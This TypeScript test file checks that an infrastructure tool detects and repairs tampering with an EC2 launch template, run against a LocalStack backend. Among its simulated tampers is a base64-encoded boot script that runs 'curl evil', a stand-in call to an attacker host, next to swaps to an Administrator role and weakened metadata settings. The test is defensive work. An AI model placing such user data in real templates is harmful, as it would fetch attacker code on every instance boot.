import { after } from "node:test";
import {
  CreateLaunchTemplateCommand,
  CreateLaunchTemplateVersionCommand,
  CreateTagsCommand,
  DeleteLaunchTemplateCommand,
  DeleteTagsCommand,
  DescribeLaunchTemplatesCommand,
  DescribeLaunchTemplateVersionsCommand,
  ModifyLaunchTemplateCommand,
  type RequestLaunchTemplateData,
} from "@aws-sdk/client-ec2";
import { tagList, tagsOf } from "../../src/aws/tags.ts";
import { type LaunchTemplateSpec, launchTemplate } from "../../src/kinds/launch-template.ts";
import { startBackend } from "../support/backend.ts";
import type { Stage, Tamper } from "./case.ts";
import { contract } from "./contract.ts";
import { othersTag, type TagCalls, tagTampers } from "./tags.ts";

const backend = await startBackend();
after(() => backend.stop());

const templatesOf = async ({ sdk, name }: Stage) => {
  const Filters = [{ Name: "launch-template-name", Values: [name] }];
  return (await sdk.ec2.send(new DescribeLaunchTemplatesCommand({ Filters }))).LaunchTemplates ?? [];
};
const idOf = async (stage: Stage) => (await templatesOf(stage))[0]!.LaunchTemplateId!;

/** A new default version: the one that stands, but for some fields. */
async function change(stage: Stage, of: (standing: RequestLaunchTemplateData) => RequestLaunchTemplateData) {
  const { ec2 } = stage.sdk;
  const LaunchTemplateName = stage.name;
  const { LaunchTemplateVersions } = await ec2.send(
    new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateName, Versions: ["$Default"] }),
  );
  const standing = LaunchTemplateVersions?.[0]?.LaunchTemplateData as RequestLaunchTemplateData;
  const made = await ec2.send(
    new CreateLaunchTemplateVersionCommand({
      LaunchTemplateName,
      LaunchTemplateData: { ...standing, ...of(standing) },
    }),
  );
  const { LaunchTemplateId, VersionNumber } = made.LaunchTemplateVersion!;
  // By its id: LocalStack 4.14 knows no other way.
  await ec2.send(new ModifyLaunchTemplateCommand({ LaunchTemplateId, DefaultVersion: String(VersionNumber) }));
}

const changed = (field: string, data: RequestLaunchTemplateData, paths?: string[]): Tamper => ({
  field,
  change: (stage) => change(stage, () => data),
  ...(paths ? { paths } : {}),
});

const tagCalls: TagCalls = {
  set: async (stage, tags) =>
    stage.sdk.ec2.send(new CreateTagsCommand({ Resources: [await idOf(stage)], Tags: tagList(tags) })),
  remove: async (stage, names) =>
    stage.sdk.ec2.send(new DeleteTagsCommand({ Resources: [await idOf(stage)], Tags: names.map((Key) => ({ Key })) })),
  get: async (stage) => tagsOf((await templatesOf(stage))[0]?.Tags),
};

const instanceTags = (Name: string): RequestLaunchTemplateData => ({
  TagSpecifications: [
    { ResourceType: "instance", Tags: tagList({ Name, "pipewright:owner": "contract" }) },
    { ResourceType: "volume", Tags: tagList({ Name: "grey", "pipewright:owner": "contract" }) },
  ],
});

contract<LaunchTemplateSpec>(backend, {
  kind: "launch-template",
  make: launchTemplate,
  spec: ({ tags }) => ({
    imageId: "resolve:ssm:/aws/service/ecs/optimized-ami/amazon-linux-2023/recommended/image_id",
    instanceType: "c5.large",
    keyName: "plants",
    instanceProfile: "ecsInstanceRole",
    securityGroupIds: ["sg-0123456789abcdef0"],
    userData: "#!/bin/bash\necho ECS_CLUSTER=pipewright >> /etc/ecs/ecs.config\n",
    shutdownBehavior: "terminate",
    metadata: { httpTokens: "required", httpPutResponseHopLimit: 1 },
    instanceTags: { Name: "grey", "pipewright:owner": "contract" },
    tags,
  }),
  tampers: [
    changed("imageId", { ImageId: "ami-0123456789abcdef0" }),
    changed("instanceType", { InstanceType: "p5.48xlarge" }),
    changed("keyName", { KeyName: "theirs" }),
    changed("instanceProfile", { IamInstanceProfile: { Name: "Administrator" } }),
    changed("securityGroupIds", { SecurityGroupIds: ["sg-0fedcba9876543210"] }),
    changed("userData", { UserData: Buffer.from("#!/bin/bash\ncurl evil\n").toString("base64") }),
    changed("shutdownBehavior", { InstanceInitiatedShutdownBehavior: "stop" }),
    changed("metadata.httpTokens", { MetadataOptions: { HttpTokens: "optional", HttpPutResponseHopLimit: 1 } }),
    changed("metadata.httpPutResponseHopLimit", {
      MetadataOptions: { HttpTokens: "required", HttpPutResponseHopLimit: 5 },
    }),
    changed("instanceTags", instanceTags("theirs"), ["instanceTags.Name"]),
    ...tagTampers(tagCalls),
  ],
  others: [othersTag(tagCalls)],
  skip: ({ cannot }) => ({
    others: cannot("launch-template-tagged-later"),
    adoption: cannot("launch-template-tagged-later"),
    "crash of its repair": cannot("launch-template-versions-deleted"),
    "ignored fields": cannot("launch-template-versions-deleted"),
  }),
  remove: ({ sdk, name }) => sdk.ec2.send(new DeleteLaunchTemplateCommand({ LaunchTemplateName: name })),
  foreign: ({ sdk, name }) =>
    sdk.ec2.send(
      new CreateLaunchTemplateCommand({
        LaunchTemplateName: name,
        LaunchTemplateData: { InstanceType: "t3.micro" },
        TagSpecifications: [{ ResourceType: "launch-template", Tags: tagList({ colour: "green" }) }],
      }),
    ),
  copies: async (stage) => (await templatesOf(stage)).length,
  alsoNamed: async (stage) => [await idOf(stage)],
});
